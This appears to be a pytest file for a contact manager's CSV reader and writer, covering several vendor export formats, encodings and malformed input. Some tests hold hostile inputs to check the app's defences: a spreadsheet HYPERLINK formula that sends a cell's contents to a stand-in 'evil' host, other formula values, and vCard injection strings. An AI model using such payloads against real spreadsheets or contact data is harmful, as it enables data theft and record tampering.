"""CSV exports of LinkedIn, Google, Outlook and Thunderbird; our own CSV out and back."""

import io

import pytest

from networker.domain.contacts import ContactDraft, LabeledValue, Source
from networker.formats.csv_formats import guard, read_csv, write_csv_rows
from networker.formats.reports import ParsedRecord, RecordProblem, UnreadableFileError

LINKEDIN = (
    "Notes:\n"
    '"When exporting your connection data, you may notice that some of the email addresses '
    'are missing."\n\n'
    "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
    "Amara,Okafor,https://www.linkedin.com/in/amara-okafor,amara@lumen.example,Lumen Health,"
    "Head of Product,12 Mar 2024\n"
    "Lars,Svensson,https://www.linkedin.com/in/lars,,Nordic Design Guild,Director,01 Feb 2023\n"
)


def records(data, encoding="utf-8"):
    raw = data.encode(encoding) if isinstance(data, str) else data
    return list(read_csv(io.BytesIO(raw)))


def test_linkedin_connections_with_the_notes_preamble():
    amara, lars = records(LINKEDIN)
    assert amara.line == 5
    draft = amara.draft
    assert (draft.given_name, draft.family_name) == ("Amara", "Okafor")
    assert (draft.organization, draft.title) == ("Lumen Health", "Head of Product")
    assert draft.emails == [LabeledValue("", "amara@lumen.example")]
    assert draft.urls == [LabeledValue("LinkedIn", "https://www.linkedin.com/in/amara-okafor")]
    assert draft.source is Source.ONLINE
    assert draft.how_we_met == "Connected on LinkedIn on 12 Mar 2024"
    assert lars.draft.emails == []


def test_an_old_linkedin_export_without_preamble_or_url():
    (row,) = records("First Name,Last Name,Email Address,Company,Position,Connected On\n"
                     "Ada,Lovelace,ada@x.example,Engines,Countess,01 Jan 2018\n")  # fmt: skip
    assert row.draft.organization == "Engines" and row.draft.urls == []


def test_google_multi_values_and_groups():
    data = (
        "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value,"
        "Phone 1 - Type,Phone 1 - Value,Organization 1 - Name,Organization 1 - Title\n"
        "Ada Lovelace,Ada,Lovelace,* myContacts ::: Mentors,* Work,a@x.example ::: b@x.example,"
        "Mobile,+44 1,Engines,Countess\n"
    )
    (row,) = records(data)
    assert [e.value for e in row.draft.emails] == ["a@x.example", "b@x.example"]
    assert row.draft.emails[0].label == "work"
    assert row.draft.tags == ["Mentors"]
    assert row.draft.display_name == "Ada Lovelace"


def test_a_google_type_cell_with_one_type_for_each_value_gives_each_its_own():
    data = (
        "Name,Given Name,Family Name,E-mail 1 - Type,E-mail 1 - Value\n"
        "Ada,Ada,L,* Home ::: Work,a@home.example ::: a@work.example\n"
    )
    (row,) = records(data)
    assert [(e.label, e.value) for e in row.draft.emails] == [
        ("home", "a@home.example"), ("work", "a@work.example"),
    ]  # fmt: skip


def test_related_people_of_outlook_and_google_fill_the_related_list():
    """Outlook's Spouse, Manager's Name and Assistant's Name columns and Google's
    Relation N columns were not read."""
    from networker.formats.vcard import card_text

    outlook = (
        "First Name,Last Name,E-mail Address,Spouse,Manager's Name,Assistant's Name\n"
        "Ada,Lovelace,a@x.example,William King,Charles  Babbage,\n"
    )
    (row,) = records(outlook)
    assert row.draft.related == [
        LabeledValue("Spouse", "William King"), LabeledValue("Manager", "Charles Babbage"),
    ]  # fmt: skip
    text = card_text(row.draft, version="3.0")
    assert "item1.X-ABRELATEDNAMES:William King\r\nitem1.X-ABLabel:_$!<Spouse>!$_" in text
    google = (
        "Name,Given Name,Family Name,E-mail 1 - Value,Relation 1 - Type,Relation 1 - Value,"
        "Relation 2 - Type,Relation 2 - Value\nAda,Ada,L,a@x.example,Mother,Anne Isabella,"
        "Custom tie,Mary Somerville\n"
    )
    (row,) = records(google)
    assert row.draft.related == [
        LabeledValue("Mother", "Anne Isabella"), LabeledValue("Custom tie", "Mary Somerville"),
    ]  # fmt: skip


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "cp1252"])
def test_encodings(encoding):
    data = "First Name,Last Name,E-mail Address\nZoë,Ångström,z@x.example\n"
    (row,) = records(data, encoding)
    assert (row.draft.given_name, row.draft.family_name) == ("Zoë", "Ångström")


def test_a_japanese_windows_export_is_read_as_shift_jis_not_mojibake():
    data = "First Name,Last Name,Primary Email\n権兵衛,名無し,g@x.example\n"
    (row,) = records(data, "shift_jis")
    assert (row.draft.given_name, row.draft.family_name) == ("権兵衛", "名無し")


def test_semicolon_delimited_european_excel():
    (row,) = records("First Name;Last Name;E-mail Address\nJean;Dupont;j@x.example\n")
    assert row.draft.emails[0].value == "j@x.example"


def test_an_unterminated_quote_is_reported_with_its_line_and_swallows_nothing_silently():
    rows = ["First Name,Last Name,E-mail Address", "A,One,a@x.example",
            'B,"Two,b@x.example'] + [f"P{i},Person,p{i}@x.example" for i in range(997)]  # fmt: skip
    found = records("\n".join(rows) + "\n")
    assert isinstance(found[0], ParsedRecord)
    (problem,) = [r for r in found if isinstance(r, RecordProblem)]
    assert problem.line == 3 and "cannot be read" in problem.reason
    assert "never closed" in problem.reason
    # Issue 15: reading resumes at the next line that parses: the other 997 rows come in.
    read = [r for r in found if isinstance(r, ParsedRecord)]
    assert len(read) == 998 and read[1].line == 4 and read[-1].line == 1000
    assert read[1].draft.given_name == "P0" and read[-1].draft.given_name == "P996"


def test_a_stray_quote_and_a_quoted_field_over_several_lines():
    rows = ["First Name,Last Name,E-mail Address,Notes", 'A,One,a@x.example,"two\nlines"',
            'B,Tw"o"x,b@x.example', 'C,Three,c@x.example,"x"y', "D,Four,d@x.example"]  # fmt: skip
    found = records("\n".join(rows) + "\n")
    assert [type(r).__name__ for r in found] == [
        "ParsedRecord", "ParsedRecord", "RecordProblem", "ParsedRecord",
    ]  # fmt: skip
    assert found[0].draft.notes == "two\nlines" and found[0].line == 2
    assert found[2].line == 5 and found[3].line == 6 and found[3].draft.given_name == "D"


def test_a_2_mb_field_is_cut_with_a_warning_and_the_rest_is_read():
    big = "n" * 2_000_000
    found = records(
        f'First Name,Last Name,E-mail Address,Notes\nA,B,a@x.example,"{big}"\n'
        "C,D,c@x.example,short\n"
    )
    first, second = found
    assert isinstance(first, ParsedRecord) and isinstance(second, ParsedRecord)
    assert any("cut short" in w for w in first.warnings)
    assert 0 < len(first.draft.notes) <= 1024 * 1024
    assert second.draft.given_name == "C"


def test_nul_bytes_are_not_stored():
    (row,) = records("First Name,Last Name,E-mail Address\nA\x00da,B\x00,a\x00@x.example\n")
    assert (row.draft.given_name, row.draft.family_name) == ("Ada", "B")
    assert row.draft.emails[0].value == "a@x.example"


def test_a_200_kb_notes_field_and_nul_bytes_do_not_break_reading():
    notes = "n" * 200_000
    (row,) = records(f'First Name,Last Name,E-mail Address,Notes\nA,B\x00,a@x.example,"{notes}"\n')
    assert len(row.draft.notes) == 200_000


def test_unknown_columns_are_refused_with_a_reason():
    with pytest.raises(UnreadableFileError, match="columns"):
        records("Foo,Bar\n1,2\n")


def test_our_csv_neutralises_formulas_and_reads_back_what_it_wrote():
    drafts = [
        ContactDraft(
            given_name="=HYPERLINK(\"http://evil/?\"&A2,\"x\")", family_name="@SUM(1)",
            organization="-2+3", phones=[LabeledValue("mobile", "+1 555 0100")],
            emails=[LabeledValue("work", "a=b@x.example")], notes="line\nbreak, \"quoted\"",
            tags=["mentor", "design"], strength=4, cadence_days=30, uid="urn:uuid:1",
            urls=[LabeledValue("website", "https://x.example/?a=b")], source=Source.EVENT,
        )
    ]  # fmt: skip
    out = io.StringIO()
    assert write_csv_rows(iter(drafts), out) == 1
    text = out.getvalue()
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text and "'-2+3" in text
    assert text.splitlines()[0].startswith("Display Name,Given Name,Family Name")
    (back,) = records(text)
    expected = ContactDraft(**{**drafts[0].__dict__, "display_name": back.draft.display_name})
    assert back.draft == expected


def test_guard():
    assert guard("=1+1") == "'=1+1"
    assert guard("\tx") == "'\tx"
    assert guard("Ada") == "Ada"


from hypothesis import example, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_cells = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30)


@settings(max_examples=80, deadline=None)
@given(given_name=_cells, organization=_cells, notes=_cells)
@example(given_name="'=x", organization="''+1", notes="'plain")
def test_our_csv_round_trips_any_text(given_name, organization, notes):
    draft = ContactDraft(
        given_name=given_name, organization=organization, notes=notes, display_name="X"
    )
    out = io.StringIO()
    write_csv_rows(iter([draft]), out)
    (back,) = records(out.getvalue())
    assert back.draft.given_name == given_name
    assert back.draft.organization == organization
    assert back.draft.notes == notes


def test_a_google_type_cell_with_line_breaks_is_one_line_of_label():
    from networker.formats.vcard import card_text, read_vcards

    data = (
        "Name,Given Name,Family Name,Group Membership,E-mail 1 - Type,E-mail 1 - Value\n"
        '"Victim",V,W,,"* Home\nEND:VCARD\nBEGIN:VCARD\nFN:Injected Person",v@x.example\n'
    )
    (row,) = records(data)
    assert row.draft.emails == [
        LabeledValue("home end:vcard begin:vcard fn:injected person", "v@x.example")
    ]
    written = card_text(row.draft).encode()
    assert len(list(read_vcards(io.BytesIO(written)))) == 1


def test_our_csv_writes_unlabelled_values_and_year_less_birthdays_as_plain_cells():
    from networker.domain.contacts import Birthday

    draft = ContactDraft(
        given_name="Ada", display_name="Ada",
        emails=[LabeledValue("", "ada@x.example"), LabeledValue("work", "a@work.example")],
        phones=[LabeledValue("", "(617) 236-0442")], birthday=Birthday(2, 29),
    )  # fmt: skip
    out = io.StringIO()
    write_csv_rows(iter([draft]), out)
    row = out.getvalue().splitlines()[1]
    assert "ada@x.example ::: work=a@work.example" in row
    assert ",(617) 236-0442," in row and ",02-29," in row and "'" not in row
    (back,) = records(out.getvalue())
    assert back.draft == draft


def test_our_csv_keeps_vcard_lines_types_and_the_archive_mark_past_the_formula_guard():
    """Issue 10: the kept vCard lines, the TYPE spellings and the archive mark come back
    from our CSV, also when a cell of them starts like a formula (guarded on the way out,
    unguarded on the way in)."""
    from networker.formats.csv_formats import write_csv_records

    draft = ContactDraft(
        display_name="Ada", uid="urn:uuid:ada",
        emails=[LabeledValue("work", "a@x.example", ("-x", "INTERNET"), ("PREF=1",))],
        phones=[LabeledValue("", "1", ("+1",))],
        extras=["-grp.X-FORMULA:=1+2", "X-AT:@SUM(1)", 'X-FOO;A="b;c":d\\, e', "GEO:1;2"],
    )  # fmt: skip
    out = io.StringIO()
    write_csv_records(iter([(draft, True)]), out)
    text = out.getvalue()
    assert "'-grp.X-FORMULA:=1+2" in text and "'-x\\,INTERNET;PREF=1" in text and "'+1" in text
    (back,) = records(text)
    assert (back.draft, back.archived, back.warnings) == (draft, True, [])


def test_a_vcard_extra_cell_cannot_add_a_card_or_a_broken_line():
    from networker.formats.vcard import card_text, read_vcards

    cell = (
        "X-OK:1\nEND:VCARD\nBEGIN:VCARD\nFN:Injected\nno colon here\nX-A;:b\nVERSION:4.0\n"
        "X-NETWORKER-ARCHIVED:TRUE\nEMAIL:spam@x.example\nitem1.X-ABRELATEDNAMES:Eve"
    )
    data = f'Display Name,UID,How We Met,vCard Extra\nAda,urn:uuid:a,,"{cell}"\n'
    (row,) = records(data)
    assert row.draft.extras == ["X-OK:1", "FN:Injected"]  # a second FN is kept as written
    assert len(row.warnings) == 8
    written = card_text(row.draft).encode()
    assert len(list(read_vcards(io.BytesIO(written)))) == 1
